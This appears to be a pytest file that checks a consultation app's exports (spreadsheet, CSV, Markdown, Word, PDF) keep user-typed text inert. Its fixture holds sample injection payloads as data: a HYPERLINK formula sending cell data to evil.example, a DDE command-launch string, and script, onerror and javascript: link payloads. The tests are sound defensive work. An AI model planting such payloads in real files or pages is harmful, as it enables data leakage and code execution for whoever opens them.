"""What people typed never runs in an export: read every file back as a spreadsheet or a Markdown renderer would."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import date
from html.parser import HTMLParser
from xml.etree import ElementTree

import docx
import openpyxl
import pytest
from markdown_it import MarkdownIt

from consult.extensions import db
from consult.models import Commune, User
from consult.reports.export import render
from consult.services.access import Actor
from consult.services.items import post_item
from consult.services.moderation import set_decision
from consult.services.phases import set_phase
from consult.services.recommendations import save_recommendation
from consult.services.votes import cast_vote
from consult.services.workshops import create_workshop, open_workshop, update_settings
from tests.conftest import PASSWORD, make_participant
from tests.reports.conftest import run
from tests.reports.test_pdf import words

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
JS_LINK = "[x](javascript:alert(3))"
IMAGE = "![x](http://evil.example/p.png)"
# Typed on a phone: each starts like a spreadsheet formula, or is markup, or hides a cell boundary.
TYPED = (
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3 حاويات",
    "@SUM(1+1)",
    "#N/A",
    f"{SCRIPT} {IMG}",
    f"{JS_LINK} {IMAGE} <javascript:alert(4)>",
    "الماء;=1+1",
    "نقطة *مهمة* و_ليست_ `كود` &amp; \\[x]",
)
# Leading tab and carriage return: the services strip them, so these rows are written as an older import left them.
STORED = ("\t=1+1", "\r@SUM(2)")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NICKNAME = "=1+1"
REASON = f"{IMG} {JS_LINK}"
RECOMMENDATION = {
    "title": "@SUM(1+1) تعميم الحاويات",
    "body": f"{SCRIPT} {IMAGE}",
    "principle": JS_LINK,
    "responsible": "+212600000000",
    "partners": "-جمعيات",
    "horizon": "=1+1",
    "budget": FORMULA,
    "indicator": IMG,
}
TITLE = f"{SCRIPT} ورشة"
VENUE = IMG
AXES = [FORMULA, f"{JS_LINK} التواصل"]
PRINCIPLES = [IMAGE, "-الشفافية"]


@pytest.fixture
def hostile(app):
    """A workshop whose title, venue, axes, principles, items, nickname, reason and recommendation are all hostile."""
    commune = Commune(name_ar="جماعة الاختبار", name_fr="Commune test", province="-", region="-")
    user = User(commune=commune, email="f@test.ma", name="Facilitatrice", role="facilitator")
    user.set_password(PASSWORD)
    db.session.add(user)
    db.session.commit()
    me = Actor(user=user)
    workshop = run(
        create_workshop,
        user,
        title=TITLE,
        workshop_date=date(2026, 11, 22),
        venue=VENUE,
        language="fr",
        axes=AXES,
        principles=PRINCIPLES,
    )
    run(update_settings, workshop, user, phase_actions={"problems": ["problem", "solution"]}, votes_per_participant=5)
    run(open_workshop, workshop, user)
    run(set_phase, workshop, me, "problems")
    who = make_participant(workshop, 0, nickname=NICKNAME)[0]
    items = {}
    for n, text in enumerate(TYPED + STORED):
        items[text], _ = run(
            post_item, workshop, who, group_id=who.group_id, kind="problem", text=f"x{n}", client_id=str(n)
        )
    for text, item in items.items():
        item.text = text
    db.session.commit()
    run(set_phase, workshop, me, "prioritization")
    run(cast_vote, workshop, who, item_id=items[FORMULA].id, client_id="v")
    run(set_decision, workshop, me, items["#N/A"].id, "not_retained", REASON)
    data = {**RECOMMENDATION, "theme_id": workshop.themes[0].id, "item_ids": [items[FORMULA].id]}
    run(save_recommendation, workshop, me, data)
    return workshop


def every_typed_text() -> list[str]:
    return [*TYPED, *STORED, *RECOMMENDATION.values(), TITLE, VENUE, *AXES, *PRINCIPLES]


def test_the_xlsx_keeps_what_was_typed_as_text_cells_never_formulas(hostile):
    data = render(hostile, "xlsx", lang="fr", public=False)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    values = {cell.value for cell in cells}
    for text in [*TYPED, *STORED, *(v for k, v in RECOMMENDATION.items() if k != "body")]:
        assert text in values, text  # exactly as typed, no quote added
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
            assert cell.quotePrefix, cell.value  # and stays text when someone edits the cell
    axis = book.worksheets[0]
    votes = {row[3].value: row[4] for row in axis.iter_rows(min_row=2)}
    assert votes[FORMULA].value == 1 and votes[FORMULA].data_type == "n"
    assert all(row[0].data_type == "n" for row in axis.iter_rows(min_row=2))  # item numbers stay numbers
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            tags = {element.tag.rsplit("}", 1)[-1] for element in ElementTree.fromstring(archive.read(name)).iter()}
            assert "f" not in tags, name


def csv_rows(data: bytes, **dialect) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), **dialect))


def test_the_csv_quotes_text_that_starts_like_a_formula_and_leaves_numbers_alone(hostile):
    data = render(hostile, "csv", lang="fr", public=False)
    header, *rows = csv_rows(data)
    found = [dict(zip(header, row, strict=True)) for row in rows]
    texts = [row["text"] for row in found]
    # A quote before a formula start, and before one that follows a cell boundary (";", tab); other text as typed.
    assert texts == [
        "'" + FORMULA,
        "'+1+cmd|' /C calc'!A0",
        "'-2+3 حاويات",
        "'@SUM(1+1)",
        *TYPED[4:7],
        "الماء;'=1+1",
        TYPED[8],
        "'\t'=1+1",
        "'\r'@SUM(2)",
    ]
    for row in found:
        assert row["id"].isdigit() and row["votes"].isdigit()  # numbers are not quoted
        assert row["author"] == "'=1+1"
        assert row["axis"] == "'" + FORMULA
        for value in row.values():
            assert not value.startswith(TRIGGERS), value
    assert [r["votes"] for r in found if r["text"] == "'" + FORMULA] == ["1"]


def test_the_csv_opened_with_semicolons_as_french_excel_does_starts_no_cell_with_a_formula(hostile):
    data = render(hostile, "csv", lang="fr", public=True)
    cells = [cell for row in csv_rows(data, delimiter=";") for cell in row]
    # The bluntest reader: a new cell at every semicolon and line break, quotes or not.
    blunt = [cell.lstrip('"') for cell in re.split("[;\r\n]", data.decode("utf-8-sig"))]
    assert len(cells) > 10 and len(blunt) > 10
    for cell in cells + blunt:
        assert not cell.startswith(TRIGGERS), cell


class Html(HTMLParser):
    """Tags, attributes and visible text of rendered HTML."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def test_the_markdown_renders_what_was_typed_as_plain_readable_text(hostile):
    markdown = render(hostile, "md", lang="fr", public=False).decode()
    # A renderer that trusts everything: raw HTML on, and any link scheme allowed.
    renderer = MarkdownIt("commonmark")
    renderer.validateLink = lambda url: True
    page = Html(renderer.render(markdown))
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"script", "img", "a", "iframe"}, tags
    for tag, attrs in page.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, name, value)
    visible = re.sub(r"\s+", " ", "".join(page.text))
    for text in every_typed_text():
        assert " ".join(text.split()) in visible, text
    assert REASON in visible


def test_the_docx_and_pdf_carry_the_text_literally(hostile, tmp_path):
    document = docx.Document(io.BytesIO(render(hostile, "docx", lang="fr", public=False)))
    paragraphs = [p.text for p in document.paragraphs]
    paragraphs += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    joined = "\n".join(paragraphs)
    for text in [*TYPED, *RECOMMENDATION.values(), TITLE, VENUE, *AXES, *PRINCIPLES, REASON]:
        assert text in joined, text
    if shutil.which("pdftotext") is None:
        pytest.skip("reading PDFs back needs pdftotext (apt-get install -y poppler-utils; CI installs it)")
    path = tmp_path / "report.pdf"
    path.write_bytes(render(hostile, "pdf", lang="fr", public=False))
    out = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    # As a reader copies it: whitespace runs read as one space, none removed (tests/reports/test_pdf.py: words).
    text_read = words(out)
    for text in (FORMULA, SCRIPT, IMG, JS_LINK, IMAGE, "@SUM(1+1)"):
        assert words(text).strip() in text_read, text
